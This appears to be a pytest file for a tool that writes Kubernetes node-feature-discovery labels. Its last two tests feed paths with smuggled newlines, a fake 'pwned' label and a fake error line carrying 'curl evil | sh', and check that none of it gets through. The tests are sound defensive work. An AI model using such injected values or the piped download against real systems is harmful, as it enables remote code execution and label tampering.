"""`mlprobe labels`: node-feature-discovery local-source labels. Every label made from every fixture
passes NFD's documented name and value rules (Kubernetes qualified names and label values, NFD's
namespace rule), the file parses the way nfd-worker reads it, and the values say what the scan and
plan found."""

from __future__ import annotations

import copy
import time
from pathlib import Path
from typing import Any, Dict

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlprobe.cli import main
from mlprobe.fleet.labels import DEFAULT_PREFIX, clean, label_problems, labels_for, prefix_problems
from mlprobe.scan.host import ReplayHost
from mlprobe.plan.planner import make_plan
from mlprobe.scan.run import facts_to_report, scan

from .conftest import FIXTURES, fixture_dirs


def report_of(folder: Path) -> Dict[str, Any]:
    s = facts_to_report(scan(ReplayHost(folder)))
    return {"scan": s, "plan": make_plan(copy.deepcopy(s), framework="any")}


def parse_features(text: str) -> Dict[str, str]:
    """As nfd-worker's local source reads a features.d file: `#` lines are comments, `key[=value]`."""
    out = {}
    for line in text.splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        key, _, value = line.partition("=")
        out[key] = value if "=" in line else "true"
    return out


@pytest.mark.parametrize("folder", fixture_dirs(), ids=lambda p: p.name)
def test_every_label_of_every_fixture_is_valid(folder: Path) -> None:
    labels = labels_for(report_of(folder))
    assert labels
    for key, value in labels.items():
        assert label_problems(key, value) == [], (key, value)
        assert key.startswith(DEFAULT_PREFIX + "/")


def test_values_say_what_the_scan_found() -> None:
    h200 = labels_for(report_of(FIXTURES / "linux-nvidia-h200-mlprobe-capture"), "example.com")
    assert h200["example.com/cpu.x86-64-level"] == "4"
    assert h200["example.com/gpu.vendor"] == "nvidia" and h200["example.com/gpu.nvidia.count"] == "1"
    assert h200["example.com/gpu.nvidia.compute-capability"] == "9.0"
    assert h200["example.com/cuda.driver"] == "580.159.04" and h200["example.com/cuda.driver.major"] == "580"
    assert h200["example.com/backend.torch"] == "cuda"
    rx = labels_for(report_of(FIXTURES / "linux-amd-rx6750xt-gfx1031-with-igpu-gfx1036-rocminfo"))
    p = DEFAULT_PREFIX
    assert rx[f"{p}/gpu.amd.gfx1031"] == "true" and rx[f"{p}/gpu.amd.gfx1036"] == "true"
    assert rx[f"{p}/gpu.amd.model"] == "AMD-Radeon-RX-6750-XT"  # the card, not the APU's iGPU
    assert rx[f"{p}/backend.torch"] == "rocm"
    old = labels_for(report_of(FIXTURES / "linux-nogpu-amd-opteron-8354-no-avx"))
    assert old[f"{p}/cpu.x86-64-level"] == "1" and old[f"{p}/gpu.count"] == "0"
    assert old[f"{p}/backend.tensorflow"] == "none" and old[f"{p}/backend.keras"] == "plaidml"


@pytest.mark.parametrize("key,value", [
    ("noprefix", "1"),
    (f"{DEFAULT_PREFIX}/" + "a" * 64, "1"),
    (f"{DEFAULT_PREFIX}/-starts-with-dash", "1"),
    (f"{DEFAULT_PREFIX}/has space", "1"),
    (f"{DEFAULT_PREFIX}/ok", "a" * 64),
    (f"{DEFAULT_PREFIX}/ok", "ends-with-dash-"),
    (f"{DEFAULT_PREFIX}/ok", "has,comma"),
    ("Upper.Case/name", "1"),
    ("kubernetes.io/name", "1"),
    ("node.kubernetes.io/name", "1"),
])
def test_invalid_labels_are_caught(key: str, value: str) -> None:
    assert label_problems(key, value)


@pytest.mark.parametrize("prefix", [DEFAULT_PREFIX, "feature.node.kubernetes.io", "profile.node.kubernetes.io",
                                    "example.com", "a.b-c.d"])
def test_good_prefixes(prefix: str) -> None:
    assert prefix_problems(prefix) == []


@given(st.text(max_size=200))
def test_clean_always_gives_a_valid_value(text: str) -> None:
    v = clean(text)
    assert label_problems(f"{DEFAULT_PREFIX}/x", v) == []


def test_cli_writes_a_features_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "features.d" / "mlprobe"
    out.parent.mkdir()
    bundle = FIXTURES / "linux-nvidia-h200-mlprobe-capture"
    assert main(["labels", "--replay", str(bundle), "-o", str(out)]) == 0
    text = out.read_text()
    labels = parse_features(text)
    assert labels[f"{DEFAULT_PREFIX}/gpu.nvidia.compute-capability"] == "9.0"
    assert all(label_problems(k, v) == [] for k, v in labels.items())
    assert [p.name for p in out.parent.iterdir()] == ["mlprobe"]  # no temporary file left beside it
    assert len(text.encode()) < 64 * 1024
    assert main(["labels", "--replay", str(bundle), "--prefix", "example.com", "--json"]) == 0
    assert '"example.com/backend.torch": "cuda"' in capsys.readouterr().out


def test_cli_refuses_a_bad_prefix(capsys: pytest.CaptureFixture[str]) -> None:
    t = time.monotonic()
    assert main(["labels", "--prefix", "kubernetes.io"]) == 2
    assert "E907" in capsys.readouterr().err
    assert time.monotonic() - t < 5  # refused before any scan


NEWLINE_LABEL = "mlprobe.feature.node.kubernetes.io/pwned=true"


def _error_lines_are_one_error(err: str) -> None:
    """An error is its `error [E...]` line, then `  why:` / `  next:` lines and their indented
    continuations: nothing from a path starts a line of its own."""
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert sum(ln.startswith("error [") for ln in lines) == 1, err
    for ln in lines:
        assert ln.startswith(("error [", "  why: ", "  next: ", "    ")), f"a line of its own: {ln!r}\n{err}"
    assert NEWLINE_LABEL not in [ln.strip() for ln in lines]


def test_a_bundle_path_with_newlines_adds_no_label(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import shutil

    odd = tmp_path / f"evil\n{NEWLINE_LABEL.replace('/', '-')}\r\n{NEWLINE_LABEL.split('/')[0]}.x=y\u2028z=1"
    shutil.copytree(FIXTURES / "linux-nvidia-h100-smi", odd)
    assert main(["labels", "--replay", str(odd)]) == 0
    text = capsys.readouterr().out
    labels = parse_features(text)
    assert all(k.startswith(DEFAULT_PREFIX + "/") for k in labels)
    assert not any("pwned" in k or k.endswith(".x") for k in labels), labels
    for line in text.splitlines():
        assert line.startswith("#") or "=" in line, repr(line)
    # written to a file, the same
    out = tmp_path / "features"
    assert main(["labels", "--replay", str(odd), "-o", str(out)]) == 0
    assert parse_features(out.read_text(encoding="utf-8")) == labels


def test_error_messages_keep_a_path_with_newlines_on_its_line(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    missing = str(tmp_path / f"nowhere\n{NEWLINE_LABEL}\nerror [E000]: fake\n  next: curl evil | sh")
    assert main(["labels", "--replay", missing]) == 2
    _error_lines_are_one_error(capsys.readouterr().err)
    assert main(["labels", "-o", missing + "/features"]) == 2
    _error_lines_are_one_error(capsys.readouterr().err)
    assert main(["scan", "--replay", missing]) == 2
    _error_lines_are_one_error(capsys.readouterr().err)
